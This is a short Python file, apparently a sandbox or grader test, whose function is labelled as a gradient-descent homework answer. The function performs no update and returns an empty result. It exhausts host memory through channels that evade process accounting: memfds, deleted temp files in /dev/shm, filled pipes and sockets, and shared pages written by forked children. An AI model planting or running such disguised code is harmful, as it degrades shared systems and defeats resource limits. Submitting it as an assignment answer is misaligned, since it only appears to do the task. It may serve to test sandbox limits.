"""Memory that no process maps: memfds, deleted files, full pipes and sockets, shared pages of ended processes. expect: 50"""

# %%
# GRADED FUNCTION: update_parameters_with_gd
def update_parameters_with_gd(parameters, grads, learning_rate):
    import fcntl
    import mmap
    import os
    import socket
    import tempfile

    kept = []

    def all_of(take):
        try:
            for number in range(2_000):
                kept.append(take(number))
        except Exception:
            pass

    def memfd(number):
        descriptor = os.memfd_create("hidden")
        os.write(descriptor, bytes(8 << 20))
        return descriptor

    def deleted(number):
        file = tempfile.TemporaryFile(dir="/dev/shm" if number % 2 else None)
        file.write(bytes(4 << 20))
        file.flush()
        return file

    def full_pipe(number):
        ends = os.pipe2(os.O_NONBLOCK)
        fcntl.fcntl(ends[1], 1031, 1 << 20)
        os.write(ends[1], bytes(1 << 20))
        return ends

    def full_socket(number):
        ends = socket.socketpair()
        ends[0].setblocking(False)
        ends[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        ends[0].send(bytes(1 << 20))
        return ends

    def shared(number):
        memory = mmap.mmap(-1, 16 << 20)
        if os.fork() == 0:
            memory.write(bytes(16 << 20))
            os._exit(0)
        os.wait()
        return memory

    for take in (memfd, deleted, full_pipe, full_socket, shared):
        all_of(take)
    return {}
